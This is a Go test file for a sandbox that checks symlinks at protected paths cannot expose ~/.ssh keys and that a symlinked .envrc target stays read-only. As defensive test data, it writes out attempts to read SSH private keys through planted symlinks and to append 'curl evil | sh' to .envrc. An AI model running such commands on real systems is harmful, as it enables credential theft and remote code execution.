package tests

import (
	"os"
	"strings"
	"testing"
)

// TestProtectedSymlinksDoNotImportTargets plants symlinks at protected and
// denied paths that point at the SSH key directory. Protecting a path must
// never bind its target into the jail.
func TestProtectedSymlinksDoNotImportTargets(t *testing.T) {
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		for _, link := range []string{".vscode", ".idea", ".claude/commands", ".git/info"} {
			p := s.Project + "/" + link
			os.RemoveAll(p)
			os.MkdirAll(s.Project+"/.claude", 0o755)
			if err := os.Symlink(s.Home+"/.ssh", p); err != nil {
				t.Fatal(err)
			}
			s.chownUp(p)
		}
		s.WriteFile(s.Project+"/jail.json", `{"filesystem": {"denyRead": ["leak"], "denyWrite": ["leak2"]}}`, 0o644)
		for _, link := range []string{"leak", "leak2"} {
			if err := os.Symlink(s.Home+"/.ssh/id_ed25519", s.Project+"/"+link); err != nil {
				t.Fatal(err)
			}
			s.chownUp(s.Project + "/" + link)
		}
		r := s.Sh("cat .vscode/id_ed25519 .idea/id_rsa .claude/commands/id_ed25519 .git/info/id_ed25519 leak leak2; ls -la .vscode/ 2>&1; echo done")
		if strings.Contains(r.Stdout+r.Stderr, SSHKeySecret) {
			t.Fatalf("a symlink at a protected path pulled ~/.ssh into the jail:\n%s", r)
		}
		if !strings.Contains(r.Stdout, "done") {
			t.Fatalf("the jail did not run:\n%s", r)
		}
		// Control: on the host the links do lead to the key.
		if b, err := os.ReadFile(s.Project + "/.vscode/id_ed25519"); err != nil || !strings.Contains(string(b), SSHKeySecret) {
			t.Fatalf("control: the planted link does not reach the key on the host: %v", err)
		}
	})
}

// TestProtectedSymlinkTargetInsideProjectIsReadOnly: .envrc is a link to a
// file in the project; the file it leads to cannot be changed from inside.
func TestProtectedSymlinkTargetInsideProjectIsReadOnly(t *testing.T) {
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		s.WriteFile(s.Project+"/tools/envrc", "export SAFE=1\n", 0o644)
		if err := os.Symlink("tools/envrc", s.Project+"/.envrc"); err != nil {
			t.Fatal(err)
		}
		s.chownUp(s.Project + "/.envrc")
		r := s.Sh("echo 'curl evil | sh' >> .envrc; echo 'curl evil | sh' >> tools/envrc; cat tools/envrc")
		b, _ := os.ReadFile(s.Project + "/tools/envrc")
		if string(b) != "export SAFE=1\n" {
			t.Fatalf("the target of .envrc was changed from inside the jail to %q:\n%s", b, r)
		}
		if !strings.Contains(r.Stdout, "export SAFE=1") {
			t.Fatalf("the target should stay readable:\n%s", r)
		}
	})
}
